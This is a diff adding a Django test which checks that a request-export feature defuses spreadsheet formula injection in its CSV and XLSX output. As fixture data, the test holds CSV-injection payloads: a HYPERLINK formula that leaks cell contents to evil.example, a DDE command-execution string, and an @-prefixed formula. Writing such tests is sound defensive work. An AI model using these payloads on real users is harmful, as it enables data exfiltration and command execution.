@@ -5,6 +5,7 @@ import csv
 import io
 import re
 
+import openpyxl
 import pytest
 from django.contrib.auth.models import Group
 from django.core import mail
@@ -193,3 +194,26 @@ def test_the_project_job_runs_again_in_the_terminal_with_progress(
     assert (job.status, job.done) == (TranslationJob.DONE, job.total)
     assert f"{job.total}/{job.total}" in out.getvalue()
     assert "Locale 'fr' is ready" in out.getvalue()
+
+
+def test_the_export_neutralises_spreadsheet_formulas(as_user, make_request):
+    """Text a requester typed that a spreadsheet would run as a formula (= + - @) is exported as
+    text, in CSV and XLSX alike."""
+    make_request(
+        organisation='=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        contact_name="+cmd|' /C calc'!A0",
+        email="mcjoseph@example.org",
+        timeline="@SUM(1+1)*cmd",
+    )
+    client = as_user("administrador")
+    response = client.get(reverse(INDEX), {"export": "csv"})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    cells = rows[1]
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
+    assert "'+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)*cmd" in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+    response = client.get(reverse(INDEX), {"export": "xlsx"})
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    values = [cell.value for cell in sheet[2]]
+    assert all(cell.data_type != "f" for cell in sheet[2])  # no formula cell
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in values
